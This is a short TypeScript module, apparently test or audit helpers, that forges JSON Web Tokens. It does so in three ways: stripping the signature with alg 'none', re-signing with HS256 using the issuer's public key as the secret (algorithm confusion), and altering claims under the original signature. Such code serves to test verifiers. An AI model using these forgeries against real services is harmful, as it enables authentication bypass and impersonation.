import { exportSPKI, importJWK, type JWK, SignJWT } from 'jose'

type Members = Readonly<Record<string, unknown>>

/** The token's claims with the algorithm `none`, without a signature (RFC 7519 section 6). */
export function unsigned(token: string): string {
  const [, claims = ''] = token.split('.')
  return `${encode({ ...headerOf(token), alg: 'none' })}.${claims}.`
}

/** The token's claims, signed with HS256 and the text of the issuer's public key as the secret: algorithm confusion. */
export async function signedWithPublicKey(token: string, publicJwk: JWK): Promise<string> {
  const key = await importJWK(publicJwk, 'ES256', { extractable: true })
  if (key instanceof Uint8Array) throw new TypeError('Cannot forge a token: the key is not a public key')
  const secret = new TextEncoder().encode(await exportSPKI(key))
  return new SignJWT({ ...claimsOf(token) }).setProtectedHeader({ ...headerOf(token), alg: 'HS256' }).sign(secret)
}

/** The token with changed claims and the original signature. */
export function tampered(token: string, claims: Members): string {
  const [header = '', , signature = ''] = token.split('.')
  return `${header}.${encode({ ...claimsOf(token), ...claims })}.${signature}`
}

/** Decodes the JOSE header of a token for display, without verifying it. */
export function headerOf(token: string): Members {
  return decode(token, 0)
}

/** Decodes the claims of a token for display, without verifying them. */
export function claimsOf(token: string): Members {
  return decode(token, 1)
}

function decode(token: string, part: number): Members {
  return JSON.parse(Buffer.from(token.split('.')[part] ?? '', 'base64url').toString()) as Members
}

function encode(members: Members): string {
  return Buffer.from(JSON.stringify(members)).toString('base64url')
}
